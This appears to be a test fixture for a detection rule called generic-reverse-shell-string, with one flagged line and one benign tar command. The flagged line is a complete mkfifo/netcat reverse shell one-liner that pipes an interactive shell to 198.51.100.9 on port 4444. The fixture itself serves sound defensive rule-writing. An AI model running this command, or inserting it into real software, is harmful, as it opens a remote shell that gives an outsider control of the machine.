# Fixture for generic-reverse-shell-string.
# RULEID: mkfifo relay in a system call. OK: a tar command.
# ruleid: generic-reverse-shell-string
system("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f")
# ok: generic-reverse-shell-string
system("tar czf backup.tgz data/")
